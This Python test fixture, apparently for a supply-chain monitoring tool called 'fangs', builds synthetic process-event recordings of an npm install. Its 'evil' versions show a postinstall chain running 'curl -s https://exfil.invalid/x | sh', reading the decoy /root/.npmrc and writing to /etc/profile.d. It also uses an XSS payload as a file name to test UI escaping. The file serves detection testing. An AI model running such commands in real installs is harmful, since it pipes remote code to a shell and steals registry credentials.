"""Recordings for the UI's tests and benchmark: an npm install whose
postinstall script starts a chain of processes several levels deep, and in
later releases reaches a TEST-NET address, an .invalid name and the decoy
.npmrc. Imported with `fangs events import` (the path recordings take)."""

import json
import os
import subprocess

FANGS = os.environ.get("FANGS_CLI", "build/tools/fangs/fangs")

# a file name that is markup: the pages must show it as text
MARKUP = "/tmp/<img src=x onerror=alert(1)>"


class Rec:
    def __init__(self, package, version):
        self.package, self.version = package, version
        self.ts = 1764080000000000000
        self.events = []

    def ev(self, kind, pid, ppid, comm, script=None, **fields):
        self.ts += 1000
        e = {"kind": kind, "ts_ns": self.ts, "pid": pid, "ppid": ppid, "comm": comm}
        if script:
            e["origin"] = {"package": self.package, "version": self.version, "script": script,
                           "command": "node install.js"}
        e.update(fields)
        self.events.append(e)

    def spawn(self, pid, ppid, comm, path, argv, script="postinstall"):
        self.ev("process_fork", pid, ppid, comm, script)
        self.ev("exec", pid, ppid, comm, script, path=path, argv=argv)

    def write(self, path):
        with open(path, "w") as f:
            for e in self.events:
                f.write(json.dumps(e) + "\n")


def recording(package, version, evil=0, filler=0):
    """evil 0: the ordinary install; 1: also curl to 203.0.113.7 and a read
    of the decoy .npmrc, five levels below npm; 2: also a new write.
    filler: that many more file reads by the script's node (benchmark)."""
    r = Rec(package, version)
    r.ev("exec", 100, 99, "node", path="/usr/bin/node", argv=["node", "/usr/share/nodejs/npm/bin/npm-cli.js", "ci"])
    for p in ["/work/project/package.json", "/work/project/package-lock.json", "/root/.npm/_cacache/index-v5/x"]:
        r.ev("file_open", 100, 99, "node", path=p, flags="r")
    r.ev("file_open", 100, 99, "node", path="/work/project/node_modules/%s/index.js" % package, flags="w")
    r.spawn(101, 100, "sh", "/bin/sh", ["sh", "-c", "node install.js"])
    r.spawn(102, 101, "node", "/usr/bin/node", ["node", "install.js"])
    r.ev("file_open", 102, 101, "node", "postinstall", path="/work/project/node_modules/%s/install.js" % package, flags="r")
    for i in range(filler):
        r.ev("file_open", 102, 101, "node", "postinstall",
             path="/work/project/node_modules/%s/lib/f%06d.js" % (package, i), flags="r")
    if evil:
        r.spawn(103, 102, "sh", "/bin/sh", ["sh", "-c", "curl -s https://exfil.invalid/x | sh"])
        r.spawn(104, 103, "curl", "/usr/bin/curl", ["curl", "-s", "https://exfil.invalid/x"])
        r.ev("dns_query", 104, 103, "curl", "postinstall", qname="exfil.invalid", qtype="A")
        r.ev("net_connect", 104, 103, "curl", "postinstall", addr="203.0.113.7", port=443, family="ipv4")
        r.ev("tls_sni", 104, 103, "curl", "postinstall", sni="exfil.invalid")
        r.ev("process_exit", 104, 103, "curl", "postinstall", exit_code=0)
        r.spawn(105, 103, "sh", "/bin/sh", ["sh"])
        r.spawn(106, 105, "cat", "/bin/cat", ["cat", "/root/.npmrc"])
        r.ev("file_open", 106, 105, "cat", "postinstall", path="/root/.npmrc", flags="r")
        r.ev("file_open", 106, 105, "cat", "postinstall", path=MARKUP, flags="r")
        r.ev("process_exit", 106, 105, "cat", "postinstall", exit_code=0)
    if evil >= 2:
        r.ev("file_open", 102, 101, "node", "postinstall", path="/etc/profile.d/zz-%s.sh" % package, flags="w")
    r.ev("process_exit", 102, 101, "node", "postinstall", exit_code=0)
    r.ev("process_exit", 101, 100, "sh", "postinstall", exit_code=0)
    r.ev("process_exit", 100, 99, "node", exit_code=0)
    return r


CONFIG = []  # ["--config", PATH] when the tests give one


def fangs(db, *args):
    p = subprocess.run([FANGS, "--sqlite-path", db, "--json"] + CONFIG + list(args), capture_output=True,
                       text=True, timeout=600)
    if p.returncode not in (0, 3):  # 3: findings at or above --fail-on
        raise AssertionError("fangs %s -> %d: %s%s" % (" ".join(args), p.returncode, p.stdout, p.stderr))
    return json.loads(p.stdout) if p.stdout.strip() else None


def import_run(db, tmp, rec):
    path = os.path.join(tmp, "%s-%s.ndjson" % (rec.package, rec.version))
    rec.write(path)
    out = fangs(db, "events", "import", path, "--package", rec.package, "--version", rec.version)
    return out["run"]["id"]


def populate(db, tmp, hook=None):
    """The UI's fixture database; the ids of the runs the tests look at.
    hook: a notifier target's URL (generic template) added first."""
    ids = {}
    ids["demo-1.0.0"] = import_run(db, tmp, recording("ui-demo", "1.0.0"))
    if hook:
        fangs(db, "notifier", "add", "--name", "ops", "--url", hook, "--template", "generic")
    ids["demo-1.1.0"] = import_run(db, tmp, recording("ui-demo", "1.1.0", evil=1))
    ids["demo-1.2.0"] = import_run(db, tmp, recording("ui-demo", "1.2.0", evil=2))
    ids["other-2.0.0"] = import_run(db, tmp, recording("ui-other", "2.0.0"))
    fangs(db, "package", "add", "ui-demo")
    return ids
